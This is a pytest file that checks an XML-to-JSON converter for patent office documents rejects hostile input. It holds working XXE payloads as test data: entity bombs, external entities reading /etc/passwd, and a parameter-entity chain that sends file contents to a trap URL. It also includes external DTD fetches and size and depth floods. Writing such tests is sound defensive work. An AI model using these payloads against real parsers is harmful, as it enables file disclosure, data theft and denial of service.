"""The XML half of the attack corpus: each hostile or broken document and its exact outcome.

Every case goes through the public entry point (``Converter().xml_to_json``) unless it tests
a guard below it. Outcomes are exact: the error class, its stable code and a message
fragment — or a conversion whose result is checked. Cases that allocate run in a child
interpreter under ``RLIMIT_AS`` (see conftest.py); all of them together take seconds.
"""

from __future__ import annotations

import io
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from xml2json import Converter, Limits, Options
from xml2json.errors import (
    MalformedXMLError,
    UnknownContentError,
    UnsafeXMLError,
    Xml2JsonError,
)
from xml2json.io import dumps_json, read_xml_source
from xml2json.safe import (
    _plain_prolog,
    _PrologScanner,
    check_docinfo,
    check_tree,
    iterparse,
    make_parser,
    parse_document,
)

TMK = "http://www.wipo.int/standards/XMLSchema/ST96/Trademark"
COM = "http://www.wipo.int/standards/XMLSchema/ST96/Common"
OPEN = (
    f'<tmk:TrademarkApplication xmlns:tmk="{TMK}" xmlns:com="{COM}" com:st96Version="V6_0">'
    "<tmk:ApplicationFormName>{name}</tmk:ApplicationFormName>"
)
CLOSE = "</tmk:TrademarkApplication>"


def tmk(body: str = "", name: str = "Form é") -> str:
    """A small TrademarkApplication with *body* after its first child."""
    return OPEN.format(name=name) + body + CLOSE


def expect(exc_info: pytest.ExceptionInfo[Xml2JsonError], cls: type[Xml2JsonError], code: str, fragment: str) -> None:
    exc = exc_info.value
    assert type(exc) is cls, f"{type(exc).__name__}: {exc}"
    assert exc.code == code, str(exc)
    assert fragment in exc.message, exc.message
    assert len(exc.message) < 600


def convert(data: bytes | str, **options: Any) -> Any:
    return Converter(options=Options(**options)).xml_to_json(data)


# -- entities and DTDs: rejected at the DOCTYPE, before anything is expanded or fetched --------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
""" + tmk("", name="&lol9;")


def quadratic_blowup() -> str:
    return '<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "' + "a" * 100_000 + '">]>' + tmk("", name="&a;" * 20_000)


def doctype_cases(trap_url: str, secret_uri: str) -> dict[str, tuple[str, str]]:
    """name → (document, message fragment); every one must be UnsafeXMLError unsafe-doctype."""
    internal = "DOCTYPE declarations are not accepted"
    external = "with an external DTD reference"
    return {
        "billion-laughs": (BILLION_LAUGHS, internal),
        "quadratic-blowup": (quadratic_blowup(), internal),
        "external-general-entity-file": (
            f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{secret_uri}">]>' + tmk(name="&xxe;"),
            internal,
        ),
        "external-general-entity-etc-passwd": (
            '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + tmk(name="&xxe;"),
            internal,
        ),
        "external-general-entity-http": (
            f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{trap_url}/general">]>' + tmk(name="&xxe;"),
            internal,
        ),
        "external-parameter-entity-file": (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{secret_uri}"> %p;]>' + tmk(), internal),
        "external-parameter-entity-http": (
            f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{trap_url}/param"> %p;]>' + tmk(name="&leak;"),
            internal,
        ),
        "parameter-entity-exfiltration": (
            f'<!DOCTYPE r [<!ENTITY % file SYSTEM "{secret_uri}">'
            f"<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM '{trap_url}/x?%file;'>\"> %eval; %send;]>" + tmk(),
            internal,
        ),
        "external-dtd-http": (f'<!DOCTYPE r SYSTEM "{trap_url}/dtd">' + tmk(), external),
        "external-dtd-public": (f'<!DOCTYPE r PUBLIC "-//EVIL//DTD//EN" "{trap_url}/public">' + tmk(), external),
        "external-dtd-file": (f'<!DOCTYPE r SYSTEM "{secret_uri}">' + tmk(), external),
        "external-dtd-dev-zero": ('<!DOCTYPE r SYSTEM "/dev/zero">' + tmk(), external),
        "internal-subset-only": ("<!DOCTYPE r [<!ELEMENT r ANY>]>" + tmk(), internal),
        "doctype-after-comment-and-pi": ('<?xml version="1.0"?><!-- c --><?pi x?><!DOCTYPE r>' + tmk(), internal),
    }


DOCTYPE_NAMES = list(doctype_cases("http://x", "file:///x"))


@pytest.mark.parametrize("name", DOCTYPE_NAMES)
def test_doctype_attacks_are_rejected_without_expansion_or_fetch(name: str, trap: Any, secret: Any) -> None:
    doc, fragment = doctype_cases(trap.url, secret.uri)[name]
    with pytest.raises(Xml2JsonError) as info:
        convert(doc.encode("utf-8"))
    expect(info, UnsafeXMLError, "unsafe-doctype", fragment)
    assert info.value.issues[0].line == 1
    assert secret.token not in str(info.value)
    assert "FETCHED" not in str(info.value)


@pytest.mark.parametrize(
    "name",
    [
        "billion-laughs",
        "external-general-entity-http",
        "external-dtd-http",
        "external-parameter-entity-http",
        "external-dtd-file",
    ],
)
def test_doctype_attacks_are_rejected_in_utf16_and_from_files_and_streams(
    name: str, trap: Any, secret: Any, tmp_path: Path
) -> None:
    doc, _ = doctype_cases(trap.url, secret.uri)[name]
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?>' + doc.split("?>", 1)[-1]).encode("utf-16")
    path = tmp_path / "attack.xml"
    path.write_bytes(doc.encode())
    for source in (utf16, path, str(path), io.BytesIO(doc.encode()), doc):
        with pytest.raises(UnsafeXMLError) as info:
            convert(source)  # type: ignore[arg-type]
        assert info.value.code == "unsafe-doctype"


def test_second_line_no_network_even_without_the_doctype_gate(trap: Any) -> None:
    """Bypassing the DOCTYPE gate (a raw parser from the factory) still fetches nothing over the network,
    and the DTD check after parsing rejects the document."""
    for doc in (
        f'<!DOCTYPE r SYSTEM "{trap.url}/raw-dtd"><r/>',
        f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{trap.url}/raw-pe"> %p;]><r/>',
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "{trap.url}/raw-ge">]><r>&x;</r>',
    ):
        try:
            root = etree.fromstring(doc.encode(), make_parser(Limits()))
        except etree.XMLSyntaxError as exc:
            assert "network" in str(exc) or "failed to load" in str(exc)
            continue
        with pytest.raises(UnsafeXMLError) as info:
            check_docinfo(root.getroottree())
        assert info.value.code == "unsafe-doctype"
        assert b"FETCHED" not in etree.tostring(root)


def test_undeclared_entity_reference_is_unsafe_entity() -> None:
    with pytest.raises(UnsafeXMLError) as info:
        convert(tmk(name="&xxe;").encode())
    expect(info, UnsafeXMLError, "unsafe-entity", "Entity 'xxe' not defined")


def test_predefined_and_character_references_are_plain_text() -> None:
    result = convert(tmk(name="&lt;&amp;&gt;&quot;&apos;&#233;&#x1F600;").encode())
    assert result.data["trademarkApplication"]["applicationFormName"] == "<&>\"'é😀"


# -- XInclude and schemaLocation: plain content, never processed --------------------------------


def test_xinclude_is_unknown_content_and_never_processed(trap: Any, secret: Any) -> None:
    body = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.uri}" parse="text"/>'
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{trap.url}/xi"/>'
    )
    result = convert(tmk(body).encode())
    out = dumps_json(result.data).decode()
    assert secret.token not in out and "FETCHED" not in out
    items = result.data["trademarkApplication"]["xi:include"]
    assert items == [
        {"$qname": "{http://www.w3.org/2001/XInclude}include", "$attributes": {"href": secret.uri, "parse": "text"}},
        {"$qname": "{http://www.w3.org/2001/XInclude}include", "$attributes": {"href": f"{trap.url}/xi"}},
    ]
    assert [w.code for w in result.warnings] == ["unknown-element"]
    with pytest.raises(UnknownContentError) as info:
        convert(tmk(body).encode(), strict=True)
    expect(info, UnknownContentError, "unknown-element", "XInclude}include is not in the ST.96 V6_0 schema")


def test_no_xinclude_call_anywhere_in_the_package() -> None:
    pkg = Path(__file__).resolve().parents[2] / "xml2json"
    offenders = [str(p) for p in pkg.rglob("*.py") if ".xinclude(" in p.read_text(encoding="utf-8")]
    assert offenders == []


@pytest.mark.parametrize("where", ["remote", "local"])
def test_schema_location_is_never_fetched_nor_kept(where: str, trap: Any, secret: Any) -> None:
    target = f"{trap.url}/schema.xsd" if where == "remote" else secret.uri
    doc = tmk().replace(
        "com:st96Version",
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="{TMK} {target}" xsi:noNamespaceSchemaLocation="{target}" '
        "com:st96Version",
        1,
    )
    result = convert(doc.encode())
    assert result.data == {"trademarkApplication": {"st96Version": "V6_0", "applicationFormName": "Form é"}}
    assert result.warnings == ()


# -- size and depth ---------------------------------------------------------------------------------


def test_100000_deep_nesting_is_limit_depth_in_bounded_memory(isolated: Any) -> None:
    run = isolated(
        """
        from xml2json import Converter
        doc = b"<a>" * 100_000 + b"</a>" * 100_000
        print(json.dumps(outcome(lambda: Converter().xml_to_json(doc) and None)))
    """,
        mem_mb=1024,
        timeout=60,
    )
    assert run.result["error"] == "UnsafeXMLError"
    assert run.result["code"] == "limit-depth"
    assert "Excessive depth in document: 256" in run.result["message"]
    assert run.peak_rss_mb < 300


def test_50mb_attribute_and_11mb_text_are_limit_text_size_in_bounded_memory(isolated: Any) -> None:
    run = isolated(
        """
        from xml2json import Converter
        conv = Converter()
        attr = b'<a b="' + b"x" * 50_000_000 + b'"/>'
        text = b"<a>" + b"x" * 11_000_000 + b"</a>"
        print(json.dumps([outcome(lambda: conv.xml_to_json(attr) and None),
                          outcome(lambda: conv.xml_to_json(text) and None)]))
    """,
        mem_mb=1536,
        timeout=60,
    )
    for r in run.result:
        assert r["error"] == "UnsafeXMLError" and r["code"] == "limit-text-size", r
        assert "larger than allowed" in r["message"]
    assert run.peak_rss_mb < 400


def test_libxml2_boundaries_equal_the_default_limits() -> None:
    """The defaults are libxml2's own guards: 256 levels and 10 000 000 bytes of text pass."""
    limits = Limits()
    assert limits.max_depth == 256 and limits.max_text_bytes == 10_000_000
    parse_document(b"<a>" * 256 + b"</a>" * 256, limits)
    with pytest.raises(UnsafeXMLError) as info:
        parse_document(b"<a>" * 257 + b"</a>" * 257, limits)
    assert info.value.code == "limit-depth"
    parse_document(b"<a>" + b"x" * 10_000_000 + b"</a>", limits)
    with pytest.raises(UnsafeXMLError) as info:
        parse_document(b"<a>" + b"x" * 10_000_001 + b"</a>", limits)
    assert info.value.code == "limit-text-size"


def _attrs(n: int) -> bytes:
    return b"<a " + b" ".join(b'x%d="v"' % i for i in range(n)) + b"/>"


LIMIT_CASES = {
    "depth-below-libxml2": (
        Limits(max_depth=10),
        b"<a>" * 11 + b"</a>" * 11,
        "limit-depth",
        "nesting deeper than 10 levels",
    ),
    "depth-above-libxml2": (
        Limits(max_depth=300),
        b"<a>" * 301 + b"</a>" * 301,
        "limit-depth",
        "nesting deeper than 300 levels",
    ),
    "text": (
        Limits(max_text_bytes=100),
        b"<a>" + b"x" * 101 + b"</a>",
        "limit-text-size",
        "larger than 100 bytes (UTF-8)",
    ),
    "attribute": (
        Limits(max_text_bytes=100),
        b'<a b="' + b"x" * 101 + b'"/>',
        "limit-text-size",
        "larger than 100 bytes",
    ),
    "comment": (
        Limits(max_text_bytes=100),
        b"<a><!--" + b"x" * 101 + b"--></a>",
        "limit-text-size",
        "larger than 100 bytes",
    ),
    "pi": (
        Limits(max_text_bytes=100),
        b"<a><?pi " + b"x" * 101 + b"?></a>",
        "limit-text-size",
        "larger than 100 bytes",
    ),
    "text-bytes-not-characters": (  # 30 characters, 60 bytes
        Limits(max_text_bytes=50),
        "<a>{}</a>".format("\u00e9" * 30).encode(),
        "limit-text-size",
        "larger than 50 bytes",
    ),
    "text-bytes-utf16": (  # 80 bytes of UTF-16 text, 120 bytes in UTF-8; the whole input is under 100
        Limits(max_text_bytes=100),
        "<a>{}</a>".format("\u3042" * 40).encode("utf-16"),
        "limit-text-size",
        "larger than 100 bytes",
    ),
    "text-above-libxml2": (
        Limits(max_text_bytes=12_000_000),
        b"<a>" + b"x" * 12_000_001 + b"</a>",
        "limit-text-size",
        "larger than 12000000 bytes",
    ),
    "elements": (
        Limits(max_elements_per_record=100),
        b"<a>" + b"<b/>" * 100 + b"</a>",
        "limit-elements",
        "101 elements; the limit is 100",
    ),
    "attributes-default": (Limits(), _attrs(257), "limit-attributes", "more than 256 attributes"),
    "attributes-100000": (Limits(), _attrs(100_000), "limit-attributes", "more than 256 attributes"),
    "attributes-utf16": (Limits(), _attrs(300).decode().encode("utf-16"), "limit-attributes", "more than 256"),
    "attributes-utf16-with-3c-bytes": (
        Limits(),
        _attrs(300).decode().replace('"v"', '"\u3c3c"').encode("utf-16-le").join([b"\xff\xfe", b""]),
        "limit-attributes",
        "more than 256",
    ),
    "attributes-latin1": (
        Limits(),
        b"<?xml version='1.0' encoding='ISO-8859-1'?>" + _attrs(257),
        "limit-attributes",
        "more than 256",
    ),
    "attributes-configured": (
        Limits(max_attributes=3),
        b'<a><b x="=" y="=" z="="/><c a="" b="" c="" d=""/></a>',
        "limit-attributes",
        "more than 3 attributes",
    ),
    "document-size": (
        Limits(max_document_bytes=1000),
        b"<a>" + b" " * 1000 + b"</a>",
        "limit-document-size",
        "1000 bytes",
    ),
}


@pytest.mark.parametrize(("limits", "doc", "code", "fragment"), LIMIT_CASES.values(), ids=LIMIT_CASES.keys())
def test_configured_limits_are_enforced(limits: Limits, doc: bytes, code: str, fragment: str) -> None:
    with pytest.raises(UnsafeXMLError) as info:
        Converter(options=Options(limits=limits)).xml_to_json(doc)
    expect(info, UnsafeXMLError, code, fragment)


def test_configured_limits_allow_their_boundary() -> None:
    parse_document(b"<a>" * 10 + b"</a>" * 10, Limits(max_depth=10))
    parse_document(b"<a>" * 300 + b"</a>" * 300, Limits(max_depth=300))
    parse_document(b"<a>" + b"x" * 100 + b"</a>", Limits(max_text_bytes=100))
    parse_document(b"<a>" + b"<b/>" * 99 + b"</a>", Limits(max_elements_per_record=100))
    parse_document(b"<a>" + b" " * 993 + b"</a>", Limits(max_document_bytes=1000))
    parse_document(_attrs(256), Limits())
    parse_document(b"<a x='" + b"=" * 1000 + b"'>" + b"=" * 1000 + b"</a>", Limits())  # '=' in values and text
    parse_document(b'<a><b x="" y="" z=""/><c a="" b="" c=""/></a>', Limits(max_attributes=3))


def test_document_size_limit_applies_to_files_and_streams(tmp_path: Path) -> None:
    limits = Limits(max_document_bytes=100)
    path = tmp_path / "big.xml"
    path.write_bytes(b"<a>" + b" " * 200 + b"</a>")
    for source in (path, str(path), io.BytesIO(path.read_bytes()), path.read_bytes(), path.read_text()):
        with pytest.raises(UnsafeXMLError) as info:
            read_xml_source(source, limits)
        assert info.value.code == "limit-document-size"


def test_check_tree_on_a_record() -> None:
    root = etree.fromstring(b"<r>" + b"<b><c/></b>" * 10 + b"</r>")
    check_tree(root[0], Limits(max_elements_per_record=2))
    with pytest.raises(UnsafeXMLError) as info:
        check_tree(root, Limits(max_elements_per_record=20))
    assert info.value.code == "limit-elements"


def test_long_names_hit_libxml2s_fixed_name_limit() -> None:
    with pytest.raises(UnsafeXMLError) as info:
        convert(b"<" + b"a" * 60_000 + b"/>")
    expect(info, UnsafeXMLError, "limit-name-size", "Name too long")


def test_many_attributes_are_rejected_before_lxml_reads_them(isolated: Any) -> None:
    """lxml reads an element's attribute values in quadratic time (100 000 take minutes):
    the attribute limit is checked before the converter sees the tree."""
    run = isolated(
        f"""
        from xml2json import Converter
        attrs = " ".join(f'x{{i}}="v"' for i in range(100_000))
        doc = {tmk()!r}.replace("com:st96Version", attrs + " com:st96Version", 1).encode()
        print(json.dumps(outcome(lambda: Converter().xml_to_json(doc) and None)))
    """,
        timeout=20,
    )
    assert run.result["code"] == "limit-attributes"
    assert run.result["error"] == "UnsafeXMLError"


def test_error_messages_are_clipped() -> None:
    with pytest.raises(MalformedXMLError) as info:
        convert(b"<" + b"a" * 40_000 + b"></b>")
    assert info.value.code == "malformed-xml"
    assert "Opening and ending tag mismatch" in info.value.message
    assert len(info.value.message) < 400


# -- encodings ---------------------------------------------------------------------------------------

EXPECTED = {"trademarkApplication": {"st96Version": "V6_0", "applicationFormName": "Form é"}}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("utf-8", tmk().encode("utf-8")),
        ("utf-8-bom", b"\xef\xbb\xbf" + tmk().encode("utf-8")),
        ("utf-16-bom-declared", ('<?xml version="1.0" encoding="UTF-16"?>' + tmk()).encode("utf-16")),
        ("utf-16-bom-undeclared", tmk().encode("utf-16")),
        ("utf-16be-bom", b"\xfe\xff" + tmk().encode("utf-16-be")),
        ("utf-16le-declared-no-bom", ('<?xml version="1.0" encoding="UTF-16"?>' + tmk()).encode("utf-16-le")),
        ("iso-8859-1-declared", ('<?xml version="1.0" encoding="ISO-8859-1"?>' + tmk()).encode("latin-1")),
        ("str-with-latin1-declaration", '<?xml version="1.0" encoding="ISO-8859-1"?>' + tmk()),
        ("str-with-utf16-declaration", "<?xml version='1.0' encoding='UTF-16'?>" + tmk()),
    ],
)
def test_legal_encodings_convert(name: str, data: bytes | str) -> None:
    assert convert(data).data == EXPECTED


@pytest.mark.parametrize(
    ("name", "data", "fragment"),
    [
        (
            "invalid-utf-8",
            tmk().encode("utf-8").replace("é".encode(), b"\xff\xfe"),
            "Invalid bytes in character encoding",
        ),
        (
            "overlong-utf-8",
            tmk().encode("utf-8").replace("é".encode(), b"\xc0\xaf"),
            "Invalid bytes in character encoding",
        ),
        (
            "latin-1-declared-utf-8",
            ('<?xml version="1.0" encoding="UTF-8"?>' + tmk()).encode("latin-1"),
            "Invalid bytes in character encoding",
        ),
        ("utf-16-without-bom-or-declaration", tmk().encode("utf-16-le"), "UTF-16 or UTF-32 without a byte order mark"),
        (
            "unknown-encoding",
            ('<?xml version="1.0" encoding="X-NO-SUCH"?>' + tmk(name="e")).encode(),
            "Unsupported encoding",
        ),
    ],
)
def test_broken_encodings_are_xml_encoding(name: str, data: bytes, fragment: str) -> None:
    with pytest.raises(MalformedXMLError) as info:
        convert(data)
    expect(info, MalformedXMLError, "xml-encoding", fragment)


def test_str_with_lone_surrogate_is_xml_encoding() -> None:
    with pytest.raises(MalformedXMLError) as info:
        convert(tmk(name="\ud800"))
    expect(info, MalformedXMLError, "xml-encoding", "lone surrogate")


MALFORMED = {
    "truncated-before-end-tag": (tmk().encode()[: -len(CLOSE)], "malformed-xml", "Premature end of data in tag"),
    "truncated-in-end-tag": (tmk().encode()[:-10], "malformed-xml", "expected '>'"),
    "truncated-in-attribute": (tmk().encode()[:40], "malformed-xml", "AttValue: ' expected"),
    "empty": (b"", "malformed-xml", "Document is empty"),
    "blank": (b"   ", "malformed-xml", "Start tag expected, '<' not found"),
    "nul-bytes": (b"\x00\x00\x00\x00", "xml-encoding", "UTF-16 or UTF-32 without a byte order mark"),
    "tag-mismatch": (b"<a></b>", "malformed-xml", "Opening and ending tag mismatch"),
    "two-roots": (b"<a/><b/>", "malformed-xml", "Extra content at the end of the document"),
    "control-character": (b"<a>\x01</a>", "malformed-xml", "PCDATA invalid Char value 1"),
    "character-reference-to-nul": (b"<a>&#0;</a>", "malformed-xml", "xmlParseCharRef: invalid xmlChar value 0"),
}


@pytest.mark.parametrize(("data", "code", "fragment"), MALFORMED.values(), ids=MALFORMED.keys())
def test_truncated_and_malformed_documents(data: bytes, code: str, fragment: str) -> None:
    with pytest.raises(MalformedXMLError) as info:
        convert(data)
    expect(info, MalformedXMLError, code, fragment)


# -- the bulk path: iterparse with the same guards --------------------------------------------------------


def test_iterparse_rejects_doctype_and_maps_errors(trap: Any) -> None:
    attack = f'<!DOCTYPE r SYSTEM "{trap.url}/bulk"><r><x/></r>'.encode()
    with pytest.raises(UnsafeXMLError) as info:
        list(iterparse(io.BytesIO(attack), Limits()))
    assert info.value.code == "unsafe-doctype"
    with pytest.raises(MalformedXMLError) as info2:
        list(iterparse(io.BytesIO(b"<r><x></r>"), Limits()))
    assert info2.value.code == "malformed-xml"
    records = [el.tag for _, el in iterparse(io.BytesIO(b"<r><x/><x/></r>"), Limits(), tag="x")]
    assert records == ["x", "x"]


# -- converter hardening: text pieces are joined once, not appended one by one ---------------------------


@pytest.mark.parametrize("shape", ["stray-text", "text-around-comments"])
def test_many_text_pieces_convert_whole(shape: str) -> None:
    """Text pieces in element-only content (or split by comments in mixed content) were each
    appended to an ever longer string: quadratic (160 000 pieces took minutes). Here the same
    documents must convert with every piece kept, in order; the time ratio against a same-size
    baseline is measured by benchmarks/linear_time.py, not asserted in a test."""
    n = 160_000
    if shape == "stray-text":
        data = OPEN.format(name="x") + "<tmk:TrademarkBag>" + ("<tmk:Trademark/>" + "abcdefghij") * n
        data += "</tmk:TrademarkBag>" + CLOSE
        result = Converter().xml_to_json(data.encode())
        bag = result.data["trademarkApplication"]["trademarkBag"]
        assert bag["$text"] == "abcdefghij" * n and len(bag["trademark"]) == n
        assert [w.code for w in result.warnings].count("unexpected-text") == 1  # once per path
    else:
        data = (
            '<pat:PatentPublication xmlns:pat="http://www.wipo.int/standards/XMLSchema/ST96/Patent" '
            f'xmlns:com="{COM}" com:st96Version="V6_0"><pat:Description><com:P>'
            + "abcdefghij<!---->" * n
            + "</com:P></pat:Description></pat:PatentPublication>"
        )
        result = Converter().xml_to_json(data.encode())
        assert result.data["patentPublication"]["description"] == [
            {"content": [{"p": {"content": ["abcdefghij" * n]}}]}
        ]


GATE = {
    "doctype-inside-comment": (b"<!-- <!DOCTYPE r [<!ENTITY x 'y'>]> --><r/>", False),
    "doctype-inside-pi": (b"<?note <!DOCTYPE r> ?><r/>", False),
    "xml-stylesheet-pi": (b"<?xml version='1.0'?><?xml-stylesheet href='x.xsl'?><r/>", False),
    "doctype-after-long-comment": (b"<!--" + b"-x" * 600_000 + b"--><!DOCTYPE r><r/>", True),
    "doctype-latin1-declared": (b"<?xml version='1.0' encoding='ISO-8859-1'?><!DOCTYPE r><r/>", True),
    "doctype-iso-2022-jp-declared": (b"<?xml version='1.0' encoding='ISO-2022-JP'?><!-- --><!DOCTYPE r><r/>", True),
    "doctype-utf16be-bom": ("<!DOCTYPE r><r/>".encode("utf-16-be").join([b"\xfe\xff", b""]), True),
    "doctype-lowercase-is-not-a-doctype": (b"<!doctype r><r/>", None),
}


@pytest.mark.parametrize(("data", "rejected"), GATE.values(), ids=GATE.keys())
def test_doctype_gate_edge_cases(data: bytes, rejected: bool | None) -> None:
    """The UTF-8 fast path and libxml2's own prolog reading agree on what is a DOCTYPE."""
    if rejected:
        with pytest.raises(UnsafeXMLError) as info:
            parse_document(data, Limits())
        assert info.value.code == "unsafe-doctype"
    elif rejected is None:
        with pytest.raises(MalformedXMLError):
            parse_document(data, Limits())
    else:
        assert parse_document(data, Limits()).tag == "r"
        for stream in (io.BytesIO(data),):
            assert [el.tag for _, el in iterparse(stream, Limits())] == ["r"]


_PIECES = st.sampled_from(
    [
        b" ",
        b"\n",
        b"\t",
        b"\r\n",
        b"<!---->",
        b"<!-- <!DOCTYPE r> -->",
        b"<!-- - -->",
        b"<!-- -- -->",
        b"<!--->",
        b"<?pi x?>",
        b"<?pi <!DOCTYPE r>?>",
        b"<?xml-stylesheet href='a'?>",
        b"<?xml version='1.0'?>",
        b"<!DOCTYPE r>",
        b"<!DOCTYPE r [<!ENTITY x 'y'>]>",
        b"<!doctype r>",
        b"<![CDATA[x]]>",
        b"\xef\xbb\xbf",
        b"\x00",
        b"<",
        b"?>",
        b"-->",
        b"\xc3\xa9",
        "é".encode("latin-1"),
    ]
)
_DECLS = st.sampled_from(
    [
        b"",
        b"<?xml version='1.0'?>",
        b'<?xml version="1.0" encoding="UTF-8"?>',
        b"<?xml version='1.0' encoding='utf8' standalone='yes'?>",
        b"<?xml version='1.0' encoding='ISO-8859-1'?>",
        b"<?xml version='1.0' encoding='ISO-2022-JP'?>",
        b"<?xml version='1.0' encoding='UTF-16'?>",
        b"\xef\xbb\xbf<?xml version='1.0'?>",
    ]
)


@settings(max_examples=300, deadline=None, derandomize=os.environ.get("CI") == "true")
@given(_DECLS, st.lists(_PIECES, max_size=6), st.sampled_from([b"<r/>", b"<r>&x;</r>", b"<\xc3\xa9/>", b"r/>"]))
def test_doctype_fast_path_never_disagrees_with_libxml2(decl: bytes, pieces: list[bytes], root: bytes) -> None:
    """Whenever the UTF-8 fast path lets a prolog through, libxml2 reading it finds no DOCTYPE."""
    data = decl + b"".join(pieces) + root
    if _plain_prolog(data):
        scan = _PrologScanner(Limits())
        scan.feed(data)
        scan.close()  # raises UnsafeXMLError on a DOCTYPE
    try:
        parse_document(data, Limits())
    except UnsafeXMLError as exc:
        assert exc.code in ("unsafe-doctype", "unsafe-entity")
    except MalformedXMLError:
        pass
    else:
        assert b"DOCTYPE" not in data.replace(b"<!-- <!DOCTYPE r> -->", b"").replace(b"<?pi <!DOCTYPE r>?>", b"")
